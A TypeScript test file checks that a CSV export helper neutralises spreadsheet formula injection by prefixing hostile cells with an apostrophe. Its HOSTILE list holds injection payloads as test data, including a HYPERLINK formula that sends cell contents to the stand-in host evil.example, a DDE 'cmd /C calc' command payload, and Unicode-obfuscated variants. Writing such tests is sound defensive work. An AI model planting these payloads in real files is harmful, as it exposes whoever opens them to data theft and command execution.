import { describe, expect, it } from 'vitest';
import { csvField, csvRecord, isFormulaLike } from '../../../src/util/csv.js';
import { formulaRisk, parseCsv } from '../../helpers/csv.js';

/** Hostile text as consoles and people can send it, each with the cell a spreadsheet must get. */
const HOSTILE: Array<[input: string, field: string]> = [
  ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
  ['@SUM(1+1)', `"'@SUM(1+1)"`],
  ['+1+1', `"'+1+1"`],
  ['-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
  ['\t=1+1', `"'\t=1+1"`],
  ['\r=1+1', `"'\r=1+1"`],
  ['\n=1+1', `"'\n=1+1"`],
  ['\tplain', `"'\tplain"`],
  ['  =1+1', `"'  =1+1"`],
  ['\u00a0=1+1', `"'\u00a0=1+1"`],
  ['\u200b=1+1', `"'\u200b=1+1"`],
  ['\u200c\u200d@x', `"'\u200c\u200d@x"`],
  ['\u2060+x', `"'\u2060+x"`],
  ['\ufeff=1+1', `"'\ufeff=1+1"`],
  ['\u202e=1+1', `"'\u202e=1+1"`],
  ['\u0000=1', `"'\u0000=1"`],
  ['\uff1d1+1', `"'\uff1d1+1"`],
  ['\uff0b1', `"'\uff0b1"`],
  ['\uff0d1', `"'\uff0d1"`],
  ['\uff20SUM(1)', `"'\uff20SUM(1)"`],
  ['ok;=1+1', `"'ok;=1+1"`],
  ['ok,=1+1', `"'ok,=1+1"`],
  ['ok, =1+1', `"'ok, =1+1"`],
  ['ok,"=1+1"', `"'ok,""=1+1"""`],
  ['line one\n=1+1', `"'line one\n=1+1"`],
  ['ok\t@x', `"'ok\t@x"`],
  ['-85.4', `"'-85.4"`],
];

const HARMLESS: Array<[input: string, field: string]> = [
  ['MAP 55 mmHg', 'MAP 55 mmHg'],
  ['S-20261125-01', 'S-20261125-01'],
  ['AIR_DETECTED', 'AIR_DETECTED'],
  ['a, b', '"a, b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['1+1', '1+1'],
  ['e-mail', 'e-mail'],
  ['', ''],
  ["it's", `"it's"`],
];

describe('csvField', () => {
  it.each(HOSTILE)('neutralises %j', (input, field) => {
    expect(isFormulaLike(input)).toBe(true);
    expect(csvField(input)).toBe(field);
    const [[cell]] = parseCsv(csvField(input) + '\r\n');
    expect(cell).toBe(`'${input}`);
    expect(formulaRisk(cell)).toBeNull();
  });

  it.each(HARMLESS)('leaves %j as it is, quoted only when it must be', (input, field) => {
    expect(isFormulaLike(input)).toBe(false);
    expect(csvField(input)).toBe(field);
    if (input !== '') expect(parseCsv(field + '\r\n')[0][0]).toBe(input);
  });

  it('writes numbers as numbers, negative ones included; null and undefined as empty fields', () => {
    expect(csvField(-85.4)).toBe('-85.4');
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField(150)).toBe('150');
    expect(csvField(1e-7)).toBe('1e-7');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(true)).toBe('1');
  });

  it('keeps every cell of a record apart and every hostile one neutralised after parsing', () => {
    const cells = [...HOSTILE.map(([s]) => s), -85.4, 'plain'];
    const [parsed] = parseCsv(csvRecord(cells));
    expect(parsed).toHaveLength(cells.length);
    expect(parsed.at(-2)).toBe('-85.4');
    for (const c of parsed.slice(0, -2)) expect(formulaRisk(c), JSON.stringify(c)).toBeNull();
  });
});
